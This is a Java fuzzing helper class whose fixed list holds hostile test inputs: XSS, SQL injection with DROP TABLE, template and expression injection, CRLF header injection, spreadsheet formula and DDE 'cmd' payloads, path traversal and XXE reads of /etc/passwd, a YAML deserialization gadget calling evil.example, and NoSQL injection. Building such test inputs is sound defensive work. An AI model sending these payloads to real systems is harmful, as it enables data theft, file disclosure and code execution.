package io.outturn.fuzz;

import java.util.List;
import java.util.Random;

/** Texts that somebody sends who means no good, and texts that nobody thinks of. */
public final class Hostile {
  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'-alert(1)-'",
          "</textarea><svg onload=alert(1)>",
          "javascript:alert(1)",
          "${7*7}#{7*7}*{7*7}@{7}~{::x}",
          "__${T(java.lang.Runtime).getRuntime()}__::.x",
          "[[${7*7}]] [(${7*7})]",
          "' OR '1'='1' -- ",
          "1); DROP TABLE person; --",
          "\u0000\u0001\u0008\u001F",
          "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
          "=HYPERLINK(\"http://evil.example\")",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "../../../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "file:///etc/passwd",
          "//evil.example/x",
          "https://evil.example",
          "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
          "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]",
          "&a [*a, *a]",
          "{{7*7}} <%= 7*7 %> #set($x=7)",
          "\u202Egpj.exe\u2066\u2069",
          "\uD83D\uDE00\uD83D",
          "\uFEFF\u200B\u00AD",
          "999999999999999999999999999",
          "-0",
          "NaN",
          "1e309",
          "0000-00-00",
          "9999-12-31",
          "2026-02-30",
          "00000000-0000-0000-0000-000000000000",
          "%00%ff%c0%af",
          "null",
          "true",
          "[]",
          "{\"$ne\": 1}");

  private final Random random;

  public Hostile(long seed) {
    this.random = new Random(seed);
  }

  /** One of the known attacks. */
  public static List<String> payloads() {
    return PAYLOADS;
  }

  /** An attack, a mutated attack, or noise; now and then a long one. */
  public String text() {
    return switch (random.nextInt(6)) {
      case 0, 1 -> pick(PAYLOADS);
      case 2 -> mutated(pick(PAYLOADS));
      case 3 -> noise(random.nextInt(40));
      case 4 -> pick(PAYLOADS) + pick(PAYLOADS);
      default -> random.nextInt(50) == 0 ? pick(PAYLOADS).repeat(500) : "";
    };
  }

  public <T> T pick(List<T> some) {
    return some.get(random.nextInt(some.size()));
  }

  public boolean chance(double share) {
    return random.nextDouble() < share;
  }

  public int below(int bound) {
    return random.nextInt(bound);
  }

  private String mutated(String text) {
    var changed = new StringBuilder(text);
    for (int i = 0; i <= random.nextInt(4); i++) {
      int at = random.nextInt(changed.length() + 1);
      if (at < changed.length() && random.nextBoolean()) {
        changed.deleteCharAt(at);
      } else {
        changed.insert(at, noise(1));
      }
    }
    return changed.toString();
  }

  /** Any characters of Unicode, halves of pairs among them. */
  private String noise(int length) {
    var noise = new StringBuilder();
    for (int i = 0; i < length; i++) {
      noise.append((char) (random.nextInt(4) == 0 ? random.nextInt(0x10000) : random.nextInt(128)));
    }
    return noise.toString();
  }
}
